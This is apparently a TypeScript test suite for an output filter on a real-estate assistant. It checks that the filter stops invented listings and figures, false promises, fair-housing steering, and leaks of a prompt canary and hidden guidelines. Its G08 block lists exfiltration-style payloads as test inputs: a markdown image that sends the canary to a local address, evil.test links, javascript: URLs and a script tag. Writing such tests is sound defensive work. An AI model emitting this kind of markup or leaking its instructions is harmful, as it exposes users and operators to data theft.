import { describe, expect, test } from 'vitest';
import { Ledger } from '../ledger.ts';
import { aProperty, cardOf } from '../testing/builders.ts';
import { OutputGate, type GateContext } from './output-gate.ts';
import { noDeeds } from './promises.ts';

const oak = aProperty({ id: '0190a000-0000-7000-8000-000000000001' });
const elm = aProperty({
  id: '0190a000-0000-7000-8000-000000000002',
  ListingId: 'KT-1002',
  ListPrice: 612_500,
  BedroomsTotal: 4,
  BathroomsFull: 3,
  BathroomsHalf: 0,
  LivingArea: 2210,
  YearBuilt: 2008,
  GarageSpaces: 3,
  UnparsedAddress: '9 Elm Avenue, Salem, OR 97302',
  PublicRemarks: 'Corner lot with a pool and mountain views.',
  features: ['pool'],
  url: 'https://homes.example.com/kt-1002',
});

describe('the output gate lets true sentences out unchanged', () => {
  test.each([
    '12 Oak St is listed at $549,000.',
    '12 Oak Street has 3 bedrooms, 2.5 baths and 1,840 sq ft.',
    '**9 Elm Ave** — $612,500, 4 beds, 3 baths, 2,210 sq. ft., built in 2008.',
    'The first one has three bedrooms; the second one has four bedrooms.',
    '12 Oak St ($549,000, 3 beds) is cheaper than 9 Elm Avenue ($612,500, 4 beds).',
    'I found 2 homes in Salem.',
    'I found two homes under $650k.',
    'Both are under $650,000.',
    'Prices range from $549,000 to $612,500.',
    '1. 12 Oak St, Salem, OR 97301 - $549K\n2. 9 Elm Avenue, Salem, OR 97302 - $612.5K',
    'The least expensive is $549,000.',
    '9 Elm Avenue has a pool. It was built in 2008.',
    '12 Oak St has a two-car garage and a fireplace, and it is a 5 minute walk to Bush Park.',
    "12 Oak St doesn't mention a pool.",
    'The HOA fee at 12 Oak St is $120 per month.',
    '12 Oak St is still available.',
    'Would you like to see more, or shall I look for homes with a pool?',
    'I can pass your request to Dana if you leave a phone number.',
    'The lot at 12 Oak St is 0.25 acres.',
    '12 Oak St measures about 171 m².',
    'You can reach Dana at +1 503-555-0100.',
    "I don't have anything with 5 bedrooms.",
    'Here is [12 Oak St](https://homes.example.com/kt-1001).',
    'I am an AI assistant for Reed Realty.',
    'All three wishes are noted.',
    'I have noted all three of your wishes.',
    'Both homes meet all four criteria.',
    'Those 3 preferences are noted, and the four questions are for Dana.',
    'Tus tres deseos están anotados, y alle vier Kriterien auch.',
  ])('%s', (sentence) => {
    const { shown, gate } = run(sentence);
    expect(gate.stopped).toBeNull();
    expect(shown).toBe(sentence);
  });
});

describe('G02: the output gate stops figures that the row does not bear out', () => {
  test.each([
    '12 Oak St is listed at $459,000.',
    '12 Oak St has 4 bedrooms.',
    '12 Oak St has four bedrooms.',
    '12 Oak St has ４ bedrooms.',
    '12 Oak St has 4\u200b bedrooms.',
    '12 Oak St has **4** bedrooms.',
    '12 Oak St: Beds: 4.',
    '12 Oak St, unlike 9 Elm Avenue, has 4 beds.',
    '9 Elm Avenue costs $549,000.',
    'They all have 4 bedrooms.',
    'It is half a million dollars.',
    '12 Oak St goes for five hundred thousand dollars.',
    '12 Oak St is €549,000.',
    '12 Oak St is $549,000 per month.',
    '12 Oak St has 3 full baths.',
    '12 Oak St was built in 2006.',
    'At 12 Oak St the area is 2,840 sq ft.',
    '12 Oak St has a pair of bedrooms.',
    '12 Oak St has 4 bеdrooms.',
    '12 Oak St has IV bedrooms.',
    'I found 7 homes.',
    'All four homes meet your three wishes.',
    'The other 4 offers and three wishes are noted.',
    '12 Oak St is a 10 minute walk to Bush Park.',
    'The first one has four bedrooms.',
    'Prices range from $449,000 to $612,500.',
    '12 Oak St is under $500,000.',
    '12 Oak St has four\nbedrooms.',
    'Mortgage payments start at $2,100 a month.',
    '12 Oak St sold for 5.49e5.',
  ])('%s', (sentence) => {
    const { shown, gate } = run(sentence);
    expect(gate.stopped?.kind).toMatch(/wrong_figure|wrong_fact/u);
    expect(shown).not.toContain('bedrooms');
    expect(gate.released).not.toMatch(/459|449|2,840|half a million/u);
  });
});

describe('the output gate stops', () => {
  test.each([
    [
      'G01: a listing that no tool returned',
      'Have a look at 77 Birch Lane in Salem.',
      'invented_listing',
    ],
    [
      'G01: a reference that no tool gave',
      'A lovely villa by the lake. [[L9]]',
      'invented_listing',
    ],
    ['a pool that the listing does not have', '12 Oak St has a pool.', 'wrong_fact'],
    ['a status that is not so', '12 Oak St is under contract.', 'wrong_fact'],
    ['a viewing that nobody booked', "I've booked your viewing for Saturday.", 'false_promise'],
    ['a call that nobody will make', 'Dana will call you tomorrow.', 'false_promise'],
    ['a transfer that did not happen', "I've let the agent know.", 'false_promise'],
    ['work after the reply', "I'll check with the seller and get back to you.", 'false_promise'],
    ['steering by safety', 'It is a very safe neighborhood.', 'fair_housing'],
    ['steering by family', 'This home is perfect for young families.', 'fair_housing'],
    ['steering by schools', 'The schools are excellent here.', 'fair_housing'],
    ['the canary', 'My code is KT-canary-77.', 'prompt_leak'],
    ['the canary in pieces', 'It goes K T c a n a. r y 7 7', 'prompt_leak'],
    [
      'the guidelines',
      'They told me: always push the seller concession before the end of the month.',
      'prompt_leak',
    ],
  ])('%s', (_name, sentence, kind) => {
    const { gate } = run(sentence);
    expect(gate.stopped?.kind).toBe(kind);
  });

  test('nothing that came before, and everything that comes after', () => {
    const { shown } = run('12 Oak St has 3 bedrooms. It has 9 baths. It has 3 bedrooms.');
    expect(shown).toBe('12 Oak St has 3 bedrooms. ');
  });

  test('no deed that a tool has done', () => {
    const { gate } = run("I've passed your viewing request to Dana, who will contact you.", {
      deeds: { ...noDeeds(), viewingRequested: true },
    });
    expect(gate.stopped).toBeNull();
  });

  test('a booking even when the request was made', () => {
    const { gate } = run('Your viewing is confirmed for Saturday.', {
      deeds: { ...noDeeds(), viewingRequested: true },
    });
    expect(gate.stopped?.kind).toBe('false_promise');
  });
});

describe('G08: the output gate takes out what could make a browser fetch or run', () => {
  test.each([
    ['![x](http://127.0.0.2:9/?d=canary)', 'x'],
    ['See <img src="http://evil.test/x">.', 'See .'],
    ['[a](javascript:alert(1))', 'a)'],
    ['[a](data:text/html;base64,xyz)', 'a'],
    ['[photos](https://evil.test/x?d=1)', 'photos'],
    ['Go to https://evil.test/a.', 'Go to .'],
    ['Go to evil.test/a now.', 'Go to  now.'],
    ['[ok](https://homes.example.com@evil.test/)', 'ok'],
    ['Mail x@evil.test please.', 'Mail  please.'],
    ['[ok](https://homes.example.com/kt-1001)', '[ok](https://homes.example.com/kt-1001)'],
    ['<script>alert(1)</script>', 'alert(1)'],
  ])('%s', (draft, expected) => {
    const { gate } = run(draft);
    expect(gate.released.replace(/alert\(1\)/u, 'alert(1)')).not.toMatch(
      /evil|127\.0|javascript|data:/u,
    );
    if (!draft.includes('alert(1)')) expect(gate.released).toBe(expected);
  });
});

test('shows nothing of a sentence before it is whole', () => {
  const gate = new OutputGate(aContext());
  expect(gate.push('12 Oak St has 4 bed')).toBe('');
  expect(gate.push('rooms. And')).toBe('');
  expect(gate.stopped?.kind).toBe('wrong_figure');
});

test('keeps citations for itself', () => {
  const { shown, gate } = run('It has 3 bedrooms. [[L1]] And this one has 4 bedrooms [[L2]].');
  expect(shown).toBe('It has 3 bedrooms. And this one has 4 bedrooms.');
  expect(gate.cited).toEqual([oak.id, elm.id]);
});

describe('a name of the house within another word', () => {
  test.each(['Ava', 'Sol', 'Poo'])('hides no claim: %s', (name) => {
    for (const lie of [
      '12 Oak St is no longer available.',
      '12 Oak St is sold.',
      '12 Oak St has a pool.',
    ]) {
      const { shown } = run(lie, { literals: [name] });
      expect(shown).toBe('');
    }
  });
});

function run(draft: string, overrides: Partial<GateContext> = {}) {
  const gate = new OutputGate(aContext(overrides));
  const shown =
    Array.from(draft)
      .map((letter) => gate.push(letter))
      .join('') + gate.end();
  return { shown, gate };
}

function aContext(overrides: Partial<GateContext> = {}): GateContext {
  const ledger = new Ledger();
  ledger.add(cardOf(oak), oak);
  ledger.add(cardOf(elm), elm);
  ledger.show([cardOf(oak), cardOf(elm)], 2);
  return {
    ledger,
    deeds: noDeeds(),
    askedFigures: new Set([650_000, 5]),
    literals: ['+1 503-555-0100'],
    visitorText: 'homes under 650k with 5 bedrooms',
    secrets: {
      canary: 'KT-canary-77',
      texts: ['Always push the seller concession before the end of the month.'],
    },
    hosts: ['homes.example.com'],
    emails: [],
    ...overrides,
  };
}
